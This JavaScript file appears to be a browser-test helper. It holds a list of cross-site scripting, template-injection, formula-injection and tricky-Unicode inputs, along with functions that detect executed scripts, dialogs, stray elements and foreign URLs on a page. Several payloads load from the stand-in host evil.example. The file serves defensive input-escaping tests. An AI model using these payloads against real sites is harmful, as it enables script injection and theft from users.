// Words that a careless page would run, and a watch over the pages that must not. Each calls hit() or plants an element.

/** At most 100 bytes and no control character: what a name may hold. `planted` marks elements that would be ours. */
export const payloads = [
  '<script class=planted>hit()</script>',
  '"><script class=planted src=//evil.example/x></script>',
  '<img class=planted src=x onerror=hit()>',
  `'"><img class=planted src=x onerror=hit()//`,
  '<svg class=planted onload=hit()>',
  '<svg class=planted><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg class=planted><script>hit()</script></svg>',
  '<svg><a class=planted xlink:href="javascript:hit()"><text>x',
  '<math><mi class=planted xlink:href="javascript:hit()">x',
  '<iframe class=planted srcdoc="<script>parent.hit()</script>">',
  '<iframe class=planted src=javascript:parent.hit()>',
  '<object class=planted data=javascript:hit()>',
  '<embed class=planted src=//evil.example/x>',
  '<a class=planted href="javascript:hit()">x</a>',
  '<form class=planted action=//evil.example><button>x',
  '<base class=planted href=//evil.example/>',
  '<meta class=planted http-equiv=refresh content="0;url=//evil.example">',
  '<link class=planted rel=stylesheet href=//evil.example/x>',
  '<style class=planted>@import"//evil.example/x";*{color:red}</style>',
  '<input class=planted autofocus onfocus=hit()>',
  '<details class=planted open ontoggle=hit()>',
  '<video class=planted><source onerror=hit()>',
  '<body class=planted onpageshow=hit()>',
  '</textarea><img class=planted src=x onerror=hit()>',
  '</title></style></script><img class=planted src=x onerror=hit()>',
  '<!--><img class=planted src=x onerror=hit()>-->',
  '--!><img class=planted src=x onerror=hit()>',
  '<![CDATA[<img class=planted src=x onerror=hit()>]]>',
  '<noscript><p title="</noscript><img class=planted src=x onerror=hit()>">',
  '<form><math><mtext></form><mglyph><style></math><img class=planted src onerror=hit()>',
  '<template><img class=planted src=x onerror=hit()></template>',
  '<x-y class=planted is=z slot=a>',
  '&lt;img class=planted src=x onerror=hit()&gt;',
  '&#60;img class=planted src=x onerror=hit()&#62;',
  '%3Cimg%20class=planted%20src=x%20onerror=hit()%3E',
  '\\u003cimg class=planted src=x onerror=hit()\\u003e \\x3cscript\\x3e',
  '{{constructor.constructor("hit()")()}} ${hit()} #{hit()} <%= hit() %>',
  '{@html hit()} {#if 1}x{/if} {hit()} [[hit()]] *{hit()}',
  'javascript:hit()//%0Ahit()',
  `";hit();//';hit();//\`;hit();//</`,
  '" onmouseover=hit() autofocus onfocus=hit() x="',
  "__proto__ constructor toString hasOwnProperty",
  '\u202egnp.exe\u202c \u2066\u2069\u200f\ufeff\u061c',
  '\ud83d\udc69\u200d\ud83d\ude80\u0301\u0302\u0303\u0304\u{1d54f}\u{e0041}\ufffd\u2028\u2029',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f',
  '=HYPERLINK("//evil.example";"x") +1 -1 @x',
];

/** Makes a page tell what happened in it; call before the first load. */
export async function watch(person, page = person.page) {
  person.broken ??= [];
  page.on('dialog', (dialog) => { person.broken.push(`a dialog: ${dialog.message()}`); void dialog.dismiss(); });
  page.on('popup', (popup) => person.broken.push(`a window: ${popup.url()}`));
  await page.addInitScript(() => {
    globalThis.broken = [];
    globalThis.hit = () => globalThis.broken.push('hit() was called');
    document.addEventListener('securitypolicyviolation', (event) => globalThis.broken.push(`CSP: ${event.violatedDirective} ${event.blockedURI}`));
  });
}

/** What the page holds that nobody of us put there; and which of `texts` it does not show. */
export async function faults(person, texts = [], page = person.page) {
  const found = await page.evaluate((wanted) => {
    const broken = [...globalThis.broken];
    const home = location.origin;
    const ours = (value) => value === '' || value.startsWith('#') || value.startsWith('/') && !value.startsWith('//') || value.startsWith('blob:') || value.startsWith('data:') || value.startsWith(home);
    for (const element of document.querySelectorAll('*')) {
      const name = element.localName;
      if (element.classList.contains('planted')) broken.push(`planted: ${element.outerHTML.slice(0, 120)}`);
      if (['iframe', 'object', 'embed', 'base', 'math', 'template', 'frameset'].includes(name) || (name.includes('-') && !(name === 'live-text' && element.childElementCount === 0))) broken.push(`an element: ${name}`);
      for (const attribute of element.attributes) {
        if (attribute.name.startsWith('on') || attribute.name === 'srcdoc') broken.push(`${name} ${attribute.name}=${attribute.value}`);
        if (['src', 'href', 'action', 'formaction', 'data', 'xlink:href', 'poster'].includes(attribute.name) && !ours(attribute.value.trim())) broken.push(`${name} ${attribute.name}=${attribute.value}`);
      }
    }
    const shown = document.documentElement.textContent;
    const values = [...document.querySelectorAll('input, textarea')].map((one) => one.value);
    for (const text of wanted) if (!shown.includes(text) && !values.includes(text)) broken.push(`not shown as it is: ${text}`);
    return broken;
  }, texts);
  const all = [...found, ...(person.broken ?? [])];
  return all;
}
